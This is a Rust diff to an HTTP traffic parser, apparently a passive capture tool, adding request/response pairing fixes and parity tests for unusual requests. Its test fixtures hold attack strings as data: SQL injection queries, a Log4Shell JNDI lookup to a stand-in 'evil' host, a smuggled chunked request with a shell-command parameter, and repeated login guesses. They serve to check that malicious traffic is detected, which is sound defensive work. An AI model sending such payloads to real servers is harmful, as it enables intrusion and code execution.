@@ -19,6 +19,9 @@ use crate::capture::Ts;
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 enum ReqState {
     Lost,
+    /// A response started while this request's head was still arriving (a server that
+    /// rejects a bad head before it ends): the head, when complete, takes this entry.
+    Early,
     InProgress,
     Done,
 }
@@ -33,6 +36,8 @@ struct Entry {
     resp: Option<Message>,
     /// Its response was lost in a gap.
     resp_lost: bool,
+    /// Bytes the request holds (counted against `MAX_PENDING_BYTES`).
+    cost: usize,
 }
 
 impl Entry {
@@ -45,6 +50,7 @@ impl Entry {
             resp_started: false,
             resp: None,
             resp_lost: false,
+            cost: 0,
         }
     }
 }
@@ -66,6 +72,20 @@ enum Held {
 /// Most response bytes held back waiting for their request.
 const MAX_DEFER: usize = 256 << 10;
 
+/// Most bytes of requests waiting for their responses per connection (heads and kept body
+/// prefixes); past it, as past `max_pending`, the oldest unanswered request is evicted.
+const MAX_PENDING_BYTES: usize = 1 << 20;
+
+/// What a queued message costs in memory, roughly.
+fn msg_cost(m: &Message) -> usize {
+    std::mem::size_of::<Message>()
+        + m.method.len()
+        + m.uri.len()
+        + m.reason.len()
+        + m.body.capacity()
+        + m.headers.iter().map(|(n, v)| n.len() + v.len() + 48).sum::<usize>()
+}
+
 pub struct Conn {
     halves: [Half; 2],
     client: Option<usize>,
@@ -84,8 +104,23 @@ struct Q {
     role_found: Option<Role>,
     /// Offset in the client's stream acknowledged by the packet being processed (server side).
     ack_off: Option<u64>,
+    /// The client's side holds part of a request head (set before response bytes are fed).
+    req_head_partial: bool,
     max_pending: usize,
+    /// Requests evicted past `max_pending` (reported without their responses), oldest first,
+    /// run-length by kind: the next responses answer them, so later pairings stay exact.
+    evicted: VecDeque<(ReqKind, u64)>,
+    /// The response being parsed answers an evicted request: it is counted, not paired.
+    skipping: bool,
+    /// Responses dropped that way.
+    pub evicted_responses: u64,
+    /// Sum of the `cost` of the entries in `pending`.
+    pending_bytes: usize,
 }
+
+/// Runs of evicted request kinds kept per connection (16 bytes each); past it, runs merge
+/// (pairing stays exact, only a HEAD's bodiless framing can be missed).
+const MAX_EVICTED_RUNS: usize = 4096;
 
 impl Conn {
     /// `client`: the direction index (0 or 1) whose sender is the client, if the handshake
@@ -105,7 +140,12 @@ impl Conn {
                 not_http: false,
                 role_found: None,
                 ack_off: None,
+                req_head_partial: false,
                 max_pending: cfg.max_pending,
+                evicted: VecDeque::new(),
+                skipping: false,
+                evicted_responses: 0,
+                pending_bytes: 0,
             },
         }
     }
@@ -146,6 +186,9 @@ impl Conn {
 
     fn feed(&mut self, dir: usize, d: &[u8], ts: Ts, ack_off: Option<u64>, cfg: &HttpConfig) {
         self.q.ack_off = ack_off;
+        self.q.req_head_partial = self
+            .client
+            .is_some_and(|c| c != dir && self.halves[c].head_in_progress());
         self.halves[dir].feed(d, ts, cfg, &mut self.q);
         self.after(dir);
     }
@@ -159,6 +202,7 @@ impl Conn {
             self.defer(dir, ts, Held::Gap(n), None, cfg);
             return;
         }
+        self.note_partial_request(dir);
         self.halves[dir].gap(n, ts, cfg, &mut self.q);
         self.after(dir);
         self.try_release(cfg);
@@ -167,6 +211,7 @@ impl Conn {
     pub fn eof(&mut self, dir: usize, ts: Ts, cfg: &HttpConfig) {
         // Whatever waited for the other side is processed before a side closes.
         self.release(cfg);
+        self.note_partial_request(dir & 1);
         self.halves[dir & 1].eof(ts, cfg, &mut self.q);
         self.after(dir);
     }
@@ -246,6 +291,7 @@ impl Conn {
             match h {
                 Held::Data(v, ack) => self.feed(df.dir, &v, ts, ack, cfg),
                 Held::Gap(n) => {
+                    self.note_partial_request(df.dir);
                     self.halves[df.dir].gap(n, ts, cfg, &mut self.q);
                     self.after(df.dir);
                 }
@@ -263,19 +309,28 @@ impl Conn {
             None => [0, 1],
         };
         for d in order {
+            self.note_partial_request(d);
             self.halves[d].eof(ts, cfg, &mut self.q);
         }
         self.q.pop_ready();
         // Requests still unanswered when the response side lost bytes: their responses were
         // most likely in the hole.
         let resp_gap = self.q.resp_gap;
-        while let Some(mut e) = self.q.pending.pop_front() {
+        while let Some(mut e) = self.q.remove_at(0) {
             e.resp_lost |= resp_gap && e.resp.is_none();
             if e.req.is_some() || e.resp.is_some() {
                 let lost = e.resp_lost;
                 self.q.out.push(Transaction::new(e.req, e.resp, lost));
             }
         }
+    }
+
+    /// Before bytes of direction `dir` are parsed: does the client's side hold part of a
+    /// request head (a response now answers it)?
+    fn note_partial_request(&mut self, dir: usize) {
+        self.q.req_head_partial = self
+            .client
+            .is_some_and(|c| c != dir && self.halves[c].head_in_progress());
     }
 
     fn after(&mut self, dir: usize) {
@@ -308,16 +363,53 @@ impl Conn {
 }
 
 impl Q {
+    /// Take entry `i` out of the queue, keeping the byte count.
+    fn remove_at(&mut self, i: usize) -> Option<Entry> {
+        let e = self.pending.remove(i)?;
+        self.pending_bytes = self.pending_bytes.saturating_sub(e.cost);
+        Some(e)
+    }
+
     fn pop_ready(&mut self) {
         while let Some(f) = self.pending.front() {
-            if f.state == ReqState::InProgress || f.resp.is_none() {
+            if matches!(f.state, ReqState::InProgress | ReqState::Early) || f.resp.is_none() {
                 break;
             }
-            if let Some(e) = self.pending.pop_front() {
+            if let Some(e) = self.remove_at(0) {
                 let lost = e.resp_lost;
                 self.out.push(Transaction::new(e.req, e.resp, lost));
             }
         }
+    }
+
+    /// The pipeline is full: report the oldest unanswered request now, without its response,
+    /// and remember that one response still answers it (bounded: a run-length queue).
+    /// Returns false when nothing was left to evict.
+    fn evict(&mut self) -> bool {
+        self.anomalies.push(HttpAnomaly::TooManyPipelined);
+        let i = self
+            .first_unanswered()
+            .filter(|i| !matches!(self.pending[*i].state, ReqState::InProgress | ReqState::Early));
+        let Some(e) = i.and_then(|i| self.remove_at(i)) else {
+            let Some(e) = self.remove_at(0) else {
+                return false;
+            };
+            let lost = e.resp_lost;
+            if e.req.is_some() || e.resp.is_some() {
+                self.out.push(Transaction::new(e.req, e.resp, lost));
+            }
+            return true;
+        };
+        let full = self.evicted.len() >= MAX_EVICTED_RUNS;
+        match self.evicted.back_mut() {
+            Some((k, n)) if *k == e.kind || full => *n += 1,
+            _ => self.evicted.push_back((e.kind, 1)),
+        }
+        if e.req.is_some() {
+            self.out.push(Transaction::new(e.req, None, false));
+        }
+        self.pop_ready();
+        true
     }
 
     fn first_unanswered(&self) -> Option<usize> {
@@ -343,14 +435,14 @@ impl Q {
             }
             match self.pending[i].state {
                 ReqState::Lost => {
-                    self.pending.remove(i);
+                    self.remove_at(i);
                 }
                 ReqState::Done if self.resp_gap => {
                     // Its response was in the bytes the response side lost.
                     self.pending[i].resp_started = true;
                     self.pending[i].resp_lost = true;
                     self.pending[i].resp = None;
-                    if let Some(e) = self.pending.remove(i) {
+                    if let Some(e) = self.remove_at(i) {
                         self.out.push(Transaction::new(e.req, None, true));
                     }
                 }
@@ -367,33 +459,49 @@ impl Events for Q {
     }
 
     fn request_head(&mut self, msg: &Message, _end_off: u64) {
-        let kind = if msg.method.eq_ignore_ascii_case("HEAD") {
+        let kind = if msg.http09 {
+            ReqKind::Http09
+        } else if msg.method.eq_ignore_ascii_case("HEAD") {
             ReqKind::Head
         } else if msg.method.eq_ignore_ascii_case("CONNECT") {
             ReqKind::Connect
         } else {
             ReqKind::Other
         };
-        if self.pending.len() >= self.max_pending {
-            self.anomalies.push(HttpAnomaly::TooManyPipelined);
-            if let Some(e) = self.pending.pop_front() {
-                let lost = e.resp_lost;
-                if e.req.is_some() || e.resp.is_some() {
-                    self.out.push(Transaction::new(e.req, e.resp, lost));
-                }
-            }
+        if let Some(e) = self.pending.back_mut().filter(|e| e.state == ReqState::Early) {
+            // its response already started: this head is the request it answers
+            e.state = ReqState::InProgress;
+            e.kind = kind;
+            return;
         }
+        while (self.pending.len() >= self.max_pending || self.pending_bytes > MAX_PENDING_BYTES) && self.evict() {}
         self.pending.push_back(Entry::new(ReqState::InProgress, kind));
     }
 
     fn response_head(&mut self, _msg: &Message) -> ReqKind {
         self.realign();
+        if let Some((kind, n)) = self.evicted.front_mut() {
+            // Responses to evicted requests come before those of the requests still queued.
+            let kind = *kind;
+            *n -= 1;
+            if *n == 0 {
+                self.evicted.pop_front();
+            }
+            self.skipping = true;
+            return kind;
+        }
         let i = match self.first_unanswered() {
             Some(i) => i,
+            None if self.req_head_partial => {
+                // The server answers a request whose head is still arriving (it rejected it
+                // early): pair them once the head is complete.
+                self.pending.push_back(Entry::new(ReqState::Early, ReqKind::Unknown));
+                self.pending.len() - 1
+            }
             None => {
                 // A response to a request we never saw (capture started mid-connection, or the
                 // request was lost).
-                self.pending.push_back(Entry::new(ReqState::Lost, ReqKind::Other));
+                self.pending.push_back(Entry::new(ReqState::Lost, ReqKind::Unknown));
                 self.pending.len() - 1
             }
         };
@@ -401,16 +509,34 @@ impl Events for Q {
         self.pending[i].kind
     }
 
+    fn next_response_kind(&self) -> Option<ReqKind> {
+        if let Some((kind, _)) = self.evicted.front() {
+            return Some(*kind);
+        }
+        self.first_unanswered().map(|i| self.pending[i].kind)
+    }
+
     fn done(&mut self, role: Role, msg: Message, end_off: u64) {
+        if role == Role::Response && self.skipping {
+            self.skipping = false;
+            self.evicted_responses += 1;
+            drop(msg);
+            self.pop_ready();
+            return;
+        }
         match role {
             Role::Request => match self.pending.iter_mut().rev().find(|e| e.state == ReqState::InProgress) {
                 Some(e) => {
+                    e.cost = msg_cost(&msg);
+                    self.pending_bytes += e.cost;
                     e.req = Some(msg);
                     e.state = ReqState::Done;
                     e.end_off = Some(end_off);
                 }
                 None => {
                     let mut e = Entry::new(ReqState::Done, ReqKind::Other);
+                    e.cost = msg_cost(&msg);
+                    self.pending_bytes += e.cost;
                     e.req = Some(msg);
                     e.end_off = Some(end_off);
                     self.pending.push_back(e);
@@ -436,6 +562,10 @@ impl Events for Q {
     fn lost(&mut self, role: Role, _at_off: u64) {
         match role {
             Role::Request => {
+                // a head that was still arriving is gone: its early response stays unpaired
+                for e in self.pending.iter_mut().filter(|e| e.state == ReqState::Early) {
+                    e.state = ReqState::Lost;
+                }
                 if self
                     .pending
                     .back()
@@ -444,7 +574,7 @@ impl Events for Q {
                     if self.pending.len() >= self.max_pending {
                         return;
                     }
-                    self.pending.push_back(Entry::new(ReqState::Lost, ReqKind::Other));
+                    self.pending.push_back(Entry::new(ReqState::Lost, ReqKind::Unknown));
                 }
             }
             Role::Response => self.resp_gap = true,
@@ -660,5 +790,474 @@ mod evasion_tests {
         // obs-fold in a request header
         let (_, a) = anomalies(&[(0, b"GET / HTTP/1.1\r\nX: a\r\n b\r\n\r\n")]);
         assert!(a.contains(&HttpAnomaly::ObsFold), "{a:?}");
+    }
+}
+
+/// Issue 12: nothing a server accepts is hidden from apitap (parser parity with nginx).
+#[cfg(test)]
+mod parity_tests {
+    use super::*;
+
+    fn run_cfg(cfg: &HttpConfig, chunks: &[(usize, &[u8])]) -> (Vec<Transaction>, Vec<HttpAnomaly>, Conn) {
+        let mut c = Conn::new(Some(0), cfg);
+        for (i, (d, b)) in chunks.iter().enumerate() {
+            c.data(*d, b, i as u64, None, cfg);
+        }
+        c.flush(99_999, cfg);
+        let (mut t, mut a) = (vec![], vec![]);
+        c.take(&mut t, &mut a);
+        (t, a, c)
+    }
+
+    fn run(chunks: &[(usize, &[u8])]) -> (Vec<Transaction>, Vec<HttpAnomaly>) {
+        let (t, a, _) = run_cfg(&HttpConfig::default(), chunks);
+        (t, a)
+    }
+
+    /// (method, target, status) of each transaction.
+    fn mts(t: &[Transaction]) -> Vec<(String, String, u16)> {
+        t.iter()
+            .map(|t| {
+                (
+                    t.request.as_ref().map_or(String::new(), |m| m.method.clone()),
+                    t.request.as_ref().map_or(String::new(), |m| m.uri.clone()),
+                    t.response.as_ref().map_or(0, |m| m.status),
+                )
+            })
+            .collect()
+    }
+
+    fn s(m: &str, u: &str, st: u16) -> (String, String, u16) {
+        (m.to_string(), u.to_string(), st)
+    }
+
+    const R405: &[u8] = b"HTTP/1.1 405 Not Allowed\r\nContent-Length: 0\r\n\r\n";
+    const R200: &[u8] = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";
+
+    #[test]
+    fn unusual_first_method_does_not_hide_the_connection() {
+        for m in ["AB", "ABCDEFGHIJKLMNOPQRSTU", "get", "M-SEARCH"] {
+            let first = format!("{m} / HTTP/1.1\r\nHost: a\r\n\r\n");
+            let (t, _) = run(&[
+                (0, first.as_bytes()),
+                (1, R405),
+                (0, b"GET /echo?id=1'%20OR%201=1-- HTTP/1.1\r\nHost: a\r\n\r\n"),
+                (1, R200),
+            ]);
+            assert_eq!(
+                mts(&t),
+                vec![s(m, "/", 405), s("GET", "/echo?id=1'%20OR%201=1--", 200)],
+                "{m}"
+            );
+        }
+    }
+
+    #[test]
+    fn junk_before_the_first_request_is_skipped_with_an_anomaly() {
+        let (t, a) = run(&[
+            (0, b"\x01\x02junk junk\r\nGET /after-junk HTTP/1.1\r\nHost: a\r\n\r\n"),
+            (1, R200),
+        ]);
+        assert_eq!(mts(&t), vec![s("GET", "/after-junk", 200)]);
+        assert!(a.contains(&HttpAnomaly::JunkBeforeMessage), "{a:?}");
+        // a direction that never shows a request line is still not HTTP, quietly
+        let cfg = HttpConfig::default();
+        let mut c = Conn::new(Some(0), &cfg);
+        c.data(0, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 1, None, &cfg);
+        assert!(c.not_http());
+    }
+
+    #[test]
+    fn request_lines_nginx_accepts_are_reported() {
+        let (t, a) = run(&[
+            (0, b"GET /v12?q=1'%20UNION%20SELECT HTTP/1.2\r\nHost: a\r\n\r\n"),
+            (1, R200),
+            (0, b"GET /v19 HTTP/1.9\r\nHost: a\r\n\r\n"),
+            (1, R200),
+            (0, b"GET /v101 HTTP/1.01\r\nHost: a\r\n\r\n"),
+            (1, R200),
+            (0, b"GET /trailing HTTP/1.1  \r\nHost: a\r\n\r\n"),
+            (1, R200),
+            (0, b"GET /a b HTTP/1.1\r\nHost: a\r\n\r\n"),
+            (1, R200),
+            (0, b"GET HTTP/1.1\r\nHost: a\r\n\r\n"),
+            (1, R200),
+        ]);
+        assert_eq!(
+            mts(&t),
+            vec![
+                s("GET", "/v12?q=1'%20UNION%20SELECT", 200),
+                s("GET", "/v19", 200),
+                s("GET", "/v101", 200),
+                s("GET", "/trailing", 200),
+                s("GET", "/a b", 200),
+                s("GET", "", 200),
+            ]
+        );
+        assert!(
+            t.iter()
+                .all(|t| t.request.as_ref().is_some_and(|m| m.header("host") == Some("a")))
+        );
+        assert_eq!(t[2].request.as_ref().map(|m| m.minor), Some(1));
+        assert!(a.contains(&HttpAnomaly::UnusualStartLine), "{a:?}");
+        // CONNECT with a space in its target: reported, then the tunnel
+        let (t, _) = run(&[
+            (0, b"CONNECT a b:443 HTTP/1.1\r\n\r\n"),
+            (1, b"HTTP/1.1 200 Connection established\r\n\r\n"),
+        ]);
+        assert_eq!(mts(&t), vec![s("CONNECT", "a b:443", 200)]);
+    }
+
+    /// A HEAD over HTTP/1.2 followed by 30 failed logins: every login pairs with its 401.
+    #[test]
+    fn head_over_http_1_2_pairs_every_later_response() {
+        let mut chunks: Vec<(usize, Vec<u8>)> = vec![
+            (0, b"HEAD /login HTTP/1.2\r\nHost: a\r\n\r\n".to_vec()),
+            (1, b"HTTP/1.1 200 OK\r\nContent-Length: 512\r\n\r\n".to_vec()),
+        ];
+        for i in 0..30 {
+            let body = format!("user=admin&password=guess{i}");
+            chunks.push((
+                0,
+                format!(
+                    "POST /login HTTP/1.1\r\nHost: a\r\nContent-Length: {}\r\n\r\n{body}",
+                    body.len()
+                )
+                .into_bytes(),
+            ));
+            chunks.push((1, b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n".to_vec()));
+        }
+        let refs: Vec<(usize, &[u8])> = chunks.iter().map(|(d, b)| (*d, b.as_slice())).collect();
+        let (t, _) = run(&refs);
+        assert_eq!(t.len(), 31);
+        assert_eq!(mts(&t[..1]), vec![s("HEAD", "/login", 200)]);
+        assert!(
+            t[1..]
+                .iter()
+                .all(|t| t.response.as_ref().map(|r| r.status) == Some(401))
+        );
+    }
+
+    /// A response whose request was never seen announces a body, but a status line follows
+    /// at once: a HEAD's response; the next response is not swallowed.
+    #[test]
+    fn response_to_an_unseen_head_does_not_swallow_the_next() {
+        let cfg = HttpConfig::default();
+        let mut c = Conn::new(Some(0), &cfg);
+        c.gap(0, 40, 1, &cfg);
+        c.data(
+            1,
+            b"HTTP/1.1 200 OK\r\nContent-Length: 512\r\n\r\nHTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n",
+            2,
+            None,
+            &cfg,
+        );
+        c.flush(3, &cfg);
+        let (mut t, mut a) = (vec![], vec![]);
+        c.take(&mut t, &mut a);
+        let st: Vec<u16> = t.iter().filter_map(|t| t.response.as_ref().map(|r| r.status)).collect();
+        assert_eq!(st, vec![200, 401]);
+        assert!(a.contains(&HttpAnomaly::ResponseWithoutBody), "{a:?}");
+    }
+
+    #[test]
+    fn http_0_9_request_and_reply_until_close() {
+        let (t, a) = run(&[(0, b"GET /old-school\r\n"), (1, b"<html>hello</html>")]);
+        assert_eq!(t.len(), 1);
+        let q = t[0].request.as_ref().expect("request");
+        assert_eq!(
+            (q.method.as_str(), q.uri.as_str(), q.protocol()),
+            ("GET", "/old-school", "HTTP/0.9")
+        );
+        let r = t[0].response.as_ref().expect("reply");
+        assert_eq!(r.body, b"<html>hello</html>");
+        assert!(r.http09);
+        assert!(a.contains(&HttpAnomaly::UnusualStartLine), "{a:?}");
+    }
+
+    #[test]
+    fn lower_case_version_and_non_numeric_status_are_responses() {
+        let (t, a) = run(&[
+            (0, b"GET /a HTTP/1.1\r\n\r\n"),
+            (1, b"http/1.1 200 OK\r\nContent-Length: 1\r\n\r\nx"),
+            (0, b"GET /b HTTP/1.1\r\n\r\n"),
+            (1, b"HTTP/1.1 2XX Weird\r\nContent-Length: 1\r\n\r\ny"),
+            (0, b"GET /c HTTP/1.1\r\n\r\n"),
+            (1, R200),
+        ]);
+        assert_eq!(
+            mts(&t),
+            vec![s("GET", "/a", 200), s("GET", "/b", 0), s("GET", "/c", 200)]
+        );
+        assert_eq!(t[1].response.as_ref().map(|r| r.body.clone()), Some(b"y".to_vec()));
+        assert!(a.contains(&HttpAnomaly::InvalidStatus), "{a:?}");
+    }
+
+    #[test]
+    fn chunk_sizes_with_leading_zeros_frame_one_body() {
+        let smuggled = b"GET /smuggled?cmd=;id HTTP/1.1\r\nHost: a\r\n\r\n";
+        let mut req = b"POST /upload HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
+        req.extend(format!("{:017x}\r\n", smuggled.len()).as_bytes());
+        req.extend(smuggled);
+        req.extend(b"\r\n0000\r\n\r\n");
+        let (t, a) = run(&[(0, &req), (1, R200), (0, b"GET /next HTTP/1.1\r\n\r\n"), (1, R200)]);
+        assert_eq!(
+            mts(&t),
+            vec![s("POST", "/upload", 200), s("GET", "/next", 200)],
+            "{a:?}"
+        );
+        let q = t[0].request.as_ref().expect("request");
+        assert_eq!(q.body, smuggled, "the body is inspected");
+        assert!(!q.truncated && a.is_empty(), "{a:?}");
+    }
+
+    #[test]
+    fn chunk_size_overflow_is_an_anomaly() {
+        let (t, a) = run(&[(
+            0,
+            b"POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n10000000000000000\r\nabc\r\n0\r\n\r\n",
+        )]);
+        assert!(a.contains(&HttpAnomaly::ChunkSizeOverflow), "{a:?}");
+        assert_eq!(
+            t.first().and_then(|t| t.request.as_ref()).map(|m| m.truncated),
+            Some(true)
+        );
+    }
+
+    #[test]
+    fn pipeline_deeper_than_max_pending_keeps_pairing_exact() {
+        let n = 100;
+        let mut reqs = Vec::new();
+        let mut resps = Vec::new();
+        for i in 0..n {
+            let m = if i % 7 == 3 { "HEAD" } else { "GET" };
+            reqs.extend(format!("{m} /r{i} HTTP/1.1\r\nHost: a\r\n\r\n").as_bytes());
+            let body = format!("{i}");
+            resps.extend(format!("HTTP/1.1 200 OK\r\nX-I: {i}\r\nContent-Length: {}\r\n\r\n", body.len()).as_bytes());
+            if m != "HEAD" {
+                resps.extend(body.as_bytes());
+            }
+        }
+        let cfg = HttpConfig {
+            max_pending: 64,
+            ..HttpConfig::default()
+        };
+        let (t, a, c) = run_cfg(&cfg, &[(0, &reqs), (1, &resps)]);
+        assert!(a.contains(&HttpAnomaly::TooManyPipelined));
+        assert_eq!(t.len(), n);
+        for tx in &t {
+            let q = tx.request.as_ref().expect("every request is reported");
+            let i: u16 = q.uri[2..].parse().expect("index");
+            if let Some(r) = &tx.response {
+                let got = r.header("x-i").and_then(|v| v.parse::<u16>().ok());
+                assert_eq!(got, Some(i), "{} paired with the response of another request", q.uri);
+            }
+        }
+        let answered = t.iter().filter(|t| t.response.is_some()).count();
+        assert_eq!(answered as u64 + c.q.evicted_responses, n as u64);
+        assert!(answered >= 64, "{answered}");
+    }
+
+    /// With the default caps, 100 pipelined requests are all held and all paired.
+    #[test]
+    fn a_hundred_pipelined_requests_are_all_paired_by_default() {
+        let mut reqs = Vec::new();
+        let mut resps = Vec::new();
+        for i in 0..100 {
+            reqs.extend(format!("GET /r{i} HTTP/1.1\r\n\r\n").as_bytes());
+            resps.extend(format!("HTTP/1.1 200 OK\r\nX-I: {i}\r\nContent-Length: 0\r\n\r\n").as_bytes());
+        }
+        let (t, a) = run(&[(0, &reqs), (1, &resps)]);
+        assert!(!a.contains(&HttpAnomaly::TooManyPipelined));
+        assert_eq!(t.len(), 100);
+        for (i, tx) in t.iter().enumerate() {
+            let x = tx.response.as_ref().and_then(|r| r.header("x-i")).map(String::from);
+            assert_eq!(x, Some(i.to_string()));
+        }
+    }
+
+    /// Requests with large kept bodies are bounded by bytes, not only by count.
+    #[test]
+    fn pending_requests_are_capped_by_bytes() {
+        let body = "b".repeat(60_000);
+        let mut reqs = Vec::new();
+        for i in 0..40 {
+            reqs.extend(format!("POST /u{i} HTTP/1.1\r\nContent-Length: {}\r\n\r\n{body}", body.len()).as_bytes());
+        }
+        let cfg = HttpConfig::default();
+        let mut c = Conn::new(Some(0), &cfg);
+        c.data(0, &reqs, 1, None, &cfg);
+        assert!(c.q.pending_bytes <= MAX_PENDING_BYTES + 70_000, "{}", c.q.pending_bytes);
+        assert!(c.q.anomalies.contains(&HttpAnomaly::TooManyPipelined));
+    }
+
+    #[test]
+    fn control_bytes_in_header_values_are_kept() {
+        let (t, a) = run(&[
+            (
+                0,
+                b"GET /api HTTP/1.1\r\nHost: a\r\nX-Api-Version: ${jndi:ldap://evil/a}\x7f\r\nX-B: a\x01b\r\n\r\n",
+            ),
+            (1, R200),
+        ]);
+        let q = t[0].request.as_ref().expect("request");
+        assert_eq!(q.header("x-api-version"), Some("${jndi:ldap://evil/a}\x7f"));
+        assert_eq!(q.header("x-b"), Some("a\x01b"));
+        assert_eq!(q.header("host"), Some("a"));
+        assert!(a.contains(&HttpAnomaly::HeaderControlChar), "{a:?}");
+    }
+
+    #[test]
+    fn head_over_max_head_keeps_the_request_truncated() {
+        let mut head = b"GET /big?q=1'%20OR%201=1-- HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n".to_vec();
+        let line = format!("X-Pad: {}\r\n", "a".repeat(1000));
+        let mut chunks: Vec<(usize, Vec<u8>)> = vec![(0, std::mem::take(&mut head))];
+        for _ in 0..80 {
+            chunks.push((0, line.as_bytes().to_vec()));
+        }
+        chunks.push((0, b"\r\nhello".to_vec()));
+        chunks.push((1, R200.to_vec()));
+        chunks.push((0, b"GET /after HTTP/1.1\r\n\r\n".to_vec()));
+        chunks.push((1, R200.to_vec()));
+        let refs: Vec<(usize, &[u8])> = chunks.iter().map(|(d, b)| (*d, b.as_slice())).collect();
+        let (t, a) = run(&refs);
+        assert!(a.contains(&HttpAnomaly::HeadTooLong), "{a:?}");
+        assert_eq!(
+            mts(&t),
+            vec![s("GET", "/big?q=1'%20OR%201=1--", 200), s("GET", "/after", 200)]
+        );
+        let q = t[0].request.as_ref().expect("request");
+        assert!(t[0].truncated && q.truncated);
+        assert_eq!(q.header("host"), Some("a"));
+        assert_eq!(q.body, b"hello");
+    }
+
+    /// A head over max_head that never ends (the connection closes inside it) is still
+    /// reported, truncated.
+    #[test]
+    fn head_over_max_head_cut_by_the_end_of_the_stream_is_reported() {
+        let mut head = b"POST /cut?x=1 HTTP/1.1\r\nContent-Length: 5\r\n".to_vec();
+        head.extend(format!("X-Pad: {}\r\n", "a".repeat(70_000)).as_bytes());
+        head.extend(b"X-Half: unfinis");
+        let (t, a) = run(&[(0, &head[..30_000]), (0, &head[30_000..])]);
+        assert!(a.contains(&HttpAnomaly::HeadTooLong), "{a:?}");
+        assert_eq!(mts(&t), vec![s("POST", "/cut?x=1", 0)]);
+        assert!(t[0].truncated);
+    }
+
+    #[test]
+    fn content_length_above_i64_max_is_invalid_and_what_follows_is_the_next_request() {
+        let (t, a) = run(&[
+            (
+                0,
+                b"POST /a HTTP/1.1\r\nContent-Length: 18446744073709551615\r\n\r\nGET /b HTTP/1.1\r\n\r\n",
+            ),
+            (1, R200),
+            (1, R200),
+        ]);
+        assert!(a.contains(&HttpAnomaly::InvalidContentLength), "{a:?}");
+        assert_eq!(mts(&t), vec![s("POST", "/a", 200), s("GET", "/b", 200)]);
+    }
+
+    #[test]
+    fn duplicate_x_forwarded_for_lines_are_kept_in_order() {
+        let (t, _) = run(&[(
+            0,
+            b"GET / HTTP/1.1\r\nX-Forwarded-For: 1.1.1.1\r\nX-Forwarded-For: 203.0.113.9\r\n\r\n",
+        )]);
+        let q = t[0].request.as_ref().expect("request");
+        assert_eq!(
+            q.header_values("x-forwarded-for").collect::<Vec<_>>(),
+            vec!["1.1.1.1", "203.0.113.9"]
+        );
+    }
+
+    /// The lenient start-line and header paths and the resumed end-of-head scan give the same
+    /// transactions wherever the stream is cut.
+    #[test]
+    fn unusual_shapes_split_at_every_offset_give_the_same_transactions() {
+        let req: &[u8] = b"AB /x HTTP/1.2 \r\nX-A: v\x7f\r\nTransfer-Encoding: chunked\r\n\r\n0003\r\nabc\r\n0\r\n\r\n\
+GET /a b HTTP/1.01\r\nHost: h\r\n\n";
+        let resp: &[u8] = b"http/1.1 200 OK\r\nContent-Length: 1\r\n\r\nxHTTP/1.1 2XX ?\r\nContent-Length: 0\r\n\r\n";
+        let (whole, _) = run(&[(0, req), (1, resp)]);
+        assert_eq!(mts(&whole), vec![s("AB", "/x", 200), s("GET", "/a b", 0)]);
+        for i in 0..=req.len() {
+            for j in [0, 10, resp.len() - 20, resp.len()] {
+                let (t, _) = run(&[(0, &req[..i]), (0, &req[i..]), (1, &resp[..j]), (1, &resp[j..])]);
+                assert_eq!(mts(&t), mts(&whole), "split at {i}/{j}");
+                let q = t[0].request.as_ref().expect("request");
+                assert_eq!(
+                    (q.header("x-a"), q.body.as_slice()),
+                    (Some("v\x7f"), &b"abc"[..]),
+                    "split at {i}"
+                );
+            }
+        }
+    }
+
+    /// Apache answers 400 as soon as it reads a bad request line, before the head is complete:
+    /// the response pairs with that request, not with a phantom before it.
+    #[test]
+    fn response_before_the_request_head_completes_is_paired() {
+        let (t, _) = run(&[
+            (0, b"GET /ok HTTP/1.1\r\n\r\n"),
+            (1, R200),
+            (0, b"DELETE  /bad HTTP/1.0\r\nHost: a\r\nX-Long: "),
+            (
+                1,
+                b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
+            ),
+            (0, b"still arriving\r\n\r\n"),
+        ]);
+        assert_eq!(mts(&t), vec![s("GET", "/ok", 200), s("DELETE", "/bad", 400)]);
+        assert!(t.iter().all(|t| !t.gap));
+    }
+
+    /// The request whose head was still arriving when its response started is lost in a gap:
+    /// the response is reported alone and later pairs are not held back.
+    #[test]
+    fn early_response_whose_request_is_lost_does_not_block_later_pairs() {
+        let cfg = HttpConfig::default();
+        let mut c = Conn::new(Some(0), &cfg);
+        let (q1, q2): (&[u8], &[u8]) = (b"GET /partial HTTP/1.1\r\nX-A: ", b"GET /next HTTP/1.1\r\n\r\n");
+        c.data(0, q1, 1, None, &cfg);
+        let r400: &[u8] = b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n";
+        c.data(1, r400, 2, Some(q1.len() as u64), &cfg);
+        c.gap(0, 100, 3, &cfg);
+        c.data(0, q2, 4, None, &cfg);
+        // the server's acknowledgement says it had received the whole of /next
+        c.data(1, R200, 5, Some((q1.len() + 100 + q2.len()) as u64), &cfg);
+        let (mut t, mut a) = (vec![], vec![]);
+        c.take(&mut t, &mut a);
+        assert_eq!(
+            mts(&t),
+            vec![s("", "", 400), s("GET", "/next", 200)],
+            "before the flush"
+        );
+    }
+
+    /// A head arriving a byte at a time is scanned for its end once, not from byte 0 per byte,
+    /// and gives the same message as in one piece.
+    #[test]
+    fn partial_head_is_scanned_once() {
+        let head = format!(
+            "GET /slow HTTP/1.1\r\nHost: a\r\nX-Long: {}\r\n\r\n",
+            "b".repeat(20_000)
+        );
+        let cfg = HttpConfig::default();
+        let mut c = Conn::new(Some(0), &cfg);
+        let t0 = std::time::Instant::now();
+        for (i, b) in head.as_bytes().chunks(1).enumerate() {
+            c.data(0, b, i as u64, None, &cfg);
+        }
+        let per_byte = t0.elapsed();
+        c.data(1, R200, 1 << 20, None, &cfg);
+        c.flush(1 << 21, &cfg);
+        let (mut t, mut a) = (vec![], vec![]);
+        c.take(&mut t, &mut a);
+        assert_eq!(mts(&t), vec![s("GET", "/slow", 200)]);
+        // quadratic re-parsing of 20 KB a byte at a time is ~200M byte visits (seconds);
+        // a single scan is well under a second even in a debug build
